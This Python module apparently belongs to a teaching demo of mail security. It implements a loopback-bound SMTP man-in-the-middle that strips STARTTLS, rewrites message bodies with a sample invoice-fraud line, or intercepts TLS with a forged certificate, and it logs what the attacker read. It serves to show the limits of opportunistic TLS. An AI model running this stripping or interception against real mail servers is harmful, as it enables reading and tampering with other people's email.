"""A man-in-the-middle between a sending MTA and an MX: the demo world's attacker (loopback only).

It shows why opportunistic STARTTLS (RFC 7435) only keeps out passive eavesdroppers (RFC 3207
section 6, RFC 7672 section 1.3):

- strip: removes STARTTLS from the MX's EHLO reply, answers a STARTTLS anyway with 454 (the
  temporary refusal of RFC 3207 section 4), and relays everything else in clear to the real
  MX, which it speaks to without TLS.
- strip-rewrite: strips as `strip` does, and also rewrites the body of the message it
  relays (a line added to the text): what TLS would have prevented, and what DKIM shows.
- intercept: lets the MTA start TLS, terminates it with a certificate for the MX's name from
  its own CA, and re-encrypts towards the real MX.

Either way it reads what the MTA sends afterwards and writes what it read into the world's
event log (event "attacker"): the envelope and the message, or only the commands when no
message came. The demo uses that record to say what the sending MTA could not know.

The proxy goes one command at a time (it drops PIPELINING and CHUNKING from the EHLO reply),
which is all an SMTP client that waits for each reply needs.
"""

from __future__ import annotations

import asyncio
import contextlib
import email.parser
import email.policy
import logging
import ssl
from dataclasses import dataclass, field
from enum import StrEnum
from typing import Any

from mua.core.i18n import T_
from mua.stack.ca import LOOPBACK, LocalCA
from mua.stack.events import EventLog

log = logging.getLogger(__name__)

_LINE_LIMIT = 1024 * 1024  # one line of a message; RFC 5321 section 4.5.3.1.6 says 1000
_HIDDEN = {"PIPELINING", "CHUNKING"}  # extensions that would break command-by-command relaying
_headers = email.parser.BytesHeaderParser(policy=email.policy.compat32)


class AttackMode(StrEnum):
    STRIP = "strip"
    STRIP_REWRITE = "strip-rewrite"
    INTERCEPT = "intercept"

    @property
    def strips(self) -> bool:
        return self in (AttackMode.STRIP, AttackMode.STRIP_REWRITE)


# What the rewriting attacker adds to the text of a message it relays.
REWRITE_LINE = b"P.S. Please pay the invoice to the new account: XX00 1234 5678.\r\n"


@dataclass
class _Reading:
    """What one session let the attacker read, in clear."""

    commands: list[str] = field(default_factory=list)
    mail_from: str | None = None
    rcpt_to: list[str] = field(default_factory=list)
    data: bytes | None = None
    stripped: bool = False  # it removed a STARTTLS offer
    rewrote: bool = False  # it changed the message's body on the way
    intercepted: bool = False  # it terminated the MTA's TLS with its own certificate

    def to_json(self) -> dict[str, Any]:
        message_id = None
        if self.data is not None:
            message_id = _headers.parsebytes(self.data).get("Message-ID")
        return {
            "stripped": self.stripped,
            "intercepted": self.intercepted,
            "rewrote": self.rewrote,
            "read": {
                "commands": self.commands,
                "mail_from": self.mail_from,
                "rcpt_to": self.rcpt_to,
                "data": self.data.decode("utf-8", "replace") if self.data is not None else None,
            },
            "message_id": str(message_id).strip() if message_id else None,
        }


class Attacker:
    """Listens where the MTA believes the MX is, and connects to the real MX."""

    def __init__(
        self,
        mode: AttackMode,
        *,
        mx_host: str,
        upstream_port: int,
        events: EventLog,
        ca: LocalCA | None = None,
        host: str = LOOPBACK,
        upstream_host: str = LOOPBACK,
        timeout: float = 30.0,
    ) -> None:
        """`ca` is the attacker's own CA (intercept): it issues the fake MX certificate."""
        self.mode = AttackMode(mode)
        self.mx_host = mx_host
        self.upstream = (upstream_host, upstream_port)
        self.events = events
        self.host = host
        self.timeout = timeout
        self._server_context: ssl.SSLContext | None = None
        if self.mode is AttackMode.INTERCEPT:
            if ca is None:
                raise ValueError("an intercepting attacker needs a CA for its certificate")
            self._server_context = ca.server_cert(mx_host).server_context()
        # Towards the real MX the attacker verifies nothing: it wants the mail, not the truth.
        self._upstream_context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self._upstream_context.check_hostname = False
        self._upstream_context.verify_mode = ssl.CERT_NONE
        self._server: asyncio.Server | None = None
        self._sessions: set[asyncio.Task[None]] = set()
        self._stopping = False
        self.port: int | None = None

    async def start(self, port: int = 0) -> int:
        self._server = await asyncio.start_server(self._serve, self.host, port, limit=_LINE_LIMIT)
        self.port = self._server.sockets[0].getsockname()[1]
        log.info("attacker (%s) for %s on port %d", self.mode.value, self.mx_host, self.port)
        return self.port

    async def stop(self) -> None:
        if self._server is None:
            return
        self._stopping = True  # a session accepted but not yet begun ends at its start
        self._server.close()
        for task in list(self._sessions):
            task.cancel()
        await asyncio.gather(*self._sessions, return_exceptions=True)
        await self._server.wait_closed()
        self._server = None

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if self._stopping:
            writer.close()
            return
        task = asyncio.current_task()
        assert task is not None
        self._sessions.add(task)
        peer = writer.get_extra_info("peername")
        session = _Session(self, reader, writer)
        up_writer: asyncio.StreamWriter | None = None
        try:
            async with asyncio.timeout(self.timeout):
                # On the path, not an endpoint: the MX sees the sender's own address.
                source = (peer[0], 0) if isinstance(peer, tuple) else None
                up_reader, up_writer = await asyncio.open_connection(
                    *self.upstream, limit=_LINE_LIMIT, local_addr=source
                )
            await session.run(up_reader, up_writer)
        except (
            OSError,
            TimeoutError,
            ssl.SSLError,
            asyncio.IncompleteReadError,
            ValueError,
        ) as exc:
            log.info("attacker session from %s ended: %r", peer, exc)
        finally:
            session.record(final=True)
            self._sessions.discard(task)
            writers = [w for w in (writer, up_writer) if w is not None]
            for w in writers:  # both closed before waiting: a cancelled wait must not
                w.close()  # leave the other connection open
            for w in writers:
                with contextlib.suppress(Exception):
                    await w.wait_closed()

    def _write_event(self, reading: _Reading) -> None:
        self.events.write("attacker", mode=self.mode.value, mx=self.mx_host, **reading.to_json())


class _Session:
    def __init__(
        self, attacker: Attacker, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        self.attacker = attacker
        self.reader = reader
        self.writer = writer
        self.reading = _Reading()
        self.recorded = False
        self.tls = False

    def record(self, *, final: bool = False) -> None:
        """Write what was read: at the end of each message, and at the end of the session
        unless a message was recorded and nothing of another one has been read since."""
        if final and self.recorded and self.reading.mail_from is None:
            return
        self.attacker._write_event(self.reading)
        self.recorded = True
        self.reading = _Reading(
            stripped=self.reading.stripped, intercepted=self.reading.intercepted
        )

    async def run(self, up_reader: asyncio.StreamReader, up_writer: asyncio.StreamWriter) -> None:
        greeting = await self._reply(up_reader)
        await self._send(self.writer, greeting)
        while True:
            line = await self._line(self.reader)
            if not line:
                return
            verb = line.split(b" ", 1)[0].strip().upper()
            if verb == b"STARTTLS" and not self.tls:
                await self._starttls(up_reader, up_writer)
                continue
            self._note(verb, line)
            if verb == b"QUIT":
                self.record(final=True)  # before the 221: the MTA must not outrun it
            await self._send(up_writer, line)
            reply = await self._reply(up_reader)
            if verb in (b"EHLO", b"HELO"):
                reply = self._rewrite_ehlo(reply)
            if verb == b"DATA" and reply.startswith(b"354"):
                await self._send(self.writer, reply)
                self.reading.data = await self._message(up_writer)
                reply = await self._reply(up_reader)
                self.record()  # before the final reply, so before the MTA's "relayed"
            await self._send(self.writer, reply)
            if verb == b"QUIT":
                return

    def _note(self, verb: bytes, line: bytes) -> None:
        text = line.decode("utf-8", "replace").rstrip("\r\n")
        if verb == b"AUTH":
            text = "AUTH ********"  # never keep credentials, not even the attacker's record
        self.reading.commands.append(text)
        path = (text.partition(":")[2].strip().split(" ", 1) or [""])[0]  # without parameters
        if verb == b"MAIL":
            self.reading.mail_from = path
        elif verb == b"RCPT":
            self.reading.rcpt_to.append(path)

    async def _starttls(
        self, up_reader: asyncio.StreamReader, up_writer: asyncio.StreamWriter
    ) -> None:
        self.reading.commands.append("STARTTLS")
        if self.attacker.mode.strips:
            await self._send(
                self.writer, b"454 4.7.0 TLS not available due to temporary reason\r\n"
            )
            return
        await self._send(up_writer, b"STARTTLS\r\n")
        reply = await self._reply(up_reader)
        if not reply.startswith(b"220"):
            await self._send(self.writer, reply)
            return
        await up_writer.start_tls(
            self.attacker._upstream_context, server_hostname=self.attacker.mx_host
        )
        await self._send(self.writer, b"220 2.0.0 Ready to start TLS\r\n")
        assert self.attacker._server_context is not None
        await self.writer.start_tls(self.attacker._server_context)
        self.tls = self.reading.intercepted = True

    def _rewrite_ehlo(self, reply: bytes) -> bytes:
        lines = reply.split(b"\r\n")[:-1]
        kept = [lines[0]]
        for line in lines[1:]:
            keyword = line[4:].split(b" ", 1)[0].decode("ascii", "replace").upper()
            if keyword == "STARTTLS" and self.attacker.mode.strips:
                self.reading.stripped = True
                continue
            if keyword not in _HIDDEN:
                kept.append(line)
        code = kept[0][:3]
        rebuilt = [code + b"-" + k[4:] for k in kept[:-1]] + [code + b" " + kept[-1][4:]]
        return b"\r\n".join(rebuilt) + b"\r\n"

    async def _message(self, up_writer: asyncio.StreamWriter) -> bytes:
        """Relay the DATA lines up to the lone dot (rewritten in strip-rewrite mode); return
        the message as read, dot-unstuffed."""
        lines = []
        while True:
            line = await self._line(self.reader)
            if not line:
                raise asyncio.IncompleteReadError(b"", None)
            if line in (b".\r\n", b".\n"):
                break
            lines.append(line[1:] if line.startswith(b"..") else line)  # RFC 5321 4.5.2
        sent = lines
        if self.attacker.mode is AttackMode.STRIP_REWRITE and b"\r\n" in lines:
            sent = [*lines, REWRITE_LINE]  # appended to the body, after the blank line
            self.reading.rewrote = True
        for out in sent:
            up_writer.write(b"." + out if out.startswith(b".") else out)
        up_writer.write(b".\r\n")
        await up_writer.drain()
        return b"".join(lines)

    async def _line(self, reader: asyncio.StreamReader) -> bytes:
        async with asyncio.timeout(self.attacker.timeout):
            return await reader.readline()

    async def _reply(self, reader: asyncio.StreamReader) -> bytes:
        """A whole (possibly multi-line) SMTP reply: lines until one without `-` after the code."""
        lines: list[bytes] = []
        while True:
            line = await self._line(reader)
            if not line:
                raise asyncio.IncompleteReadError(b"".join(lines), None)
            lines.append(line.rstrip(b"\r\n") + b"\r\n")
            if line[3:4] != b"-":
                return b"".join(lines)

    async def _send(self, writer: asyncio.StreamWriter, data: bytes) -> None:
        writer.write(data)
        async with asyncio.timeout(self.attacker.timeout):
            await writer.drain()


def describe_attack(events: list[dict[str, Any]], message_id: str) -> str:
    """One or two sentences on what the attacker did and read of `message_id`, from its own
    records in the event log ("" when it recorded nothing): what the sending MTA cannot know."""
    records = [e for e in events if e.get("event") == "attacker"]
    read = [e for e in records if e.get("message_id") == message_id]
    unread = [e for e in records if not e.get("message_id")]
    if not read and not unread:
        return ""
    first = (read or unread)[0]
    if any(e.get("stripped") for e in read + unread):
        how = T_("removed the STARTTLS offer from the MX's EHLO reply on the way")
    elif any(e.get("intercepted") for e in read + unread):
        how = T_("answered STARTTLS with its own certificate for {mx}", mx=first.get("mx"))
    else:
        how = T_("sat on the path")
    if read and any(e.get("rewrote") for e in read):
        return T_(
            "The demo's attacker {how}, read the whole message and changed its text before "
            "passing it on (its own record says so; the sending MTA could not tell).",
            how=how,
        )
    if read:
        return T_(
            "The demo's attacker {how} and read the whole message, envelope and body (its "
            "own record says so; the sending MTA could not tell).",
            how=how,
        )
    verbs: list[str] = []
    for e in unread:
        for command in e.get("read", {}).get("commands", []):
            verb = command.split(" ", 1)[0].upper()
            if verb not in verbs:
                verbs.append(verb)
    seen = ", ".join(verbs) or T_("nothing at all")
    return T_(
        "The demo's attacker {how}, but read nothing of the message (all it saw: {seen}).",
        how=how,
        seen=seen,
    )
